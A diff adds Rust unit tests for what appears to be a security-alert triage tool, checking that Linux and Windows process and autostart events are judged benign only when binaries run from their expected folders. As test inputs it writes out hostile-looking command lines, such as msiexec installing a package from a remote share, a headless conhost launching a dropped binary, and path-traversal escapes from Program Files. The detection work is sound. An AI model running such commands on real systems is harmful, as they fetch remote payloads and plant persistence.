@@ -38,3 +38,88 @@ fn the_same_text_in_two_fields_is_read_in_both() {
     let child = [(EVENT, "1"), (COMMAND, line), (IMAGE, chrome), (PARENT, chrome)];
     assert!(said_of(3, SYSMON, &child).is_benign());
 }
+
+#[test]
+fn a_program_of_linux_is_known_by_its_file_and_not_by_its_first_word() {
+    let ran = |exe: &str, call: &str| {
+        let name = call.split(' ').next().unwrap_or(call);
+        let fields = [
+            ("data.audit.exe", exe),
+            ("data.audit.command", name),
+            ("data.audit.execve", call),
+            ("data.audit.auid", "1001"),
+        ];
+        said_of(3, "audit audit_command", &fields)
+    };
+    for (exe, call) in [
+        ("/usr/bin/ps", "ps aux"),
+        ("/bin/df", "df -h"),
+        ("/usr/bin/git", "git pull"),
+    ] {
+        assert!(ran(exe, call).is_benign(), "{exe} {call}");
+    }
+    for (exe, call) in [
+        ("/dev/shm/.k/ps", "ps aux"),
+        ("/var/tmp/top", "top -b"),
+        ("/home/e/git", "git pull"),
+        ("/srv/x/df", "df -h"),
+    ] {
+        assert!(!ran(exe, call).is_benign(), "{exe} {call}");
+    }
+}
+
+#[test]
+fn a_name_of_windows_in_another_folder_is_no_updater() {
+    let started = |line: &str, image: &str| {
+        let fields = [(EVENT, "1"), (COMMAND, line), (IMAGE, image), (PARENT, EXPLORER)];
+        said_of(5, SYSMON, &fields)
+    };
+    for image in [
+        r"C:\Windows\Temp\setup.exe",
+        r"C:\Windows\Debug\msiexec.exe",
+        r"C:\Windows\Tasks\wuauclt.exe",
+        r"C:\Windows\System32\spool\drivers\color\winget.exe",
+    ] {
+        assert!(!started(&format!("{image} /quiet"), image).is_benign(), "{image}");
+    }
+    let worker = r"C:\Windows\WinSxS\amd64_microsoft-windows-servicingstack_1.2\TiWorker.exe";
+    assert!(started(&format!("{worker} -Embedding"), worker).is_benign());
+}
+
+#[test]
+fn what_starts_by_itself_is_closed_only_from_the_folder_of_installed_programs() {
+    let run_key = |program: &str| {
+        let fields = [
+            (EVENT, "13"),
+            (IMAGE, r"C:\Windows\System32\reg.exe"),
+            (
+                "data.win.eventdata.targetObject",
+                r"HKU\S-1-5-21-1\Software\Microsoft\Windows\CurrentVersion\Run\App",
+            ),
+            ("data.win.eventdata.details", program),
+        ];
+        said_of(6, SYSMON, &fields)
+    };
+    let task = |program: &str| {
+        let content = format!("<Task><Actions><Exec><Command>{program}</Command></Exec></Actions></Task>");
+        let fields = [
+            (EVENT, "4698"),
+            ("data.win.eventdata.subjectUserName", "WS-04$"),
+            ("data.win.eventdata.taskContent", content.as_str()),
+        ];
+        said_of(4, "windows windows_security", &fields)
+    };
+    let installed = r"C:\Program Files\Vendor\tray.exe";
+    assert!(run_key(installed).is_benign() && task(installed).is_benign());
+    for program in [
+        r"C:\Windows\System32\msiexec.exe /q /i \\203.0.113.9\s\a.msi",
+        r"C:\Windows\System32\conhost.exe --headless C:\Intel\u.exe",
+        r"C:\Windows\System32\spool\drivers\color\icc.exe",
+        r"C:\Windows\System32\..\..\Intel\i.exe",
+        r"C:\Program Files\..\Intel\i.exe",
+        r"C:\Program Files\Vendor\tray.exe --from \\203.0.113.9\s",
+    ] {
+        assert!(!run_key(program).is_benign(), "{program}");
+        assert!(!task(program).is_benign(), "{program}");
+    }
+}
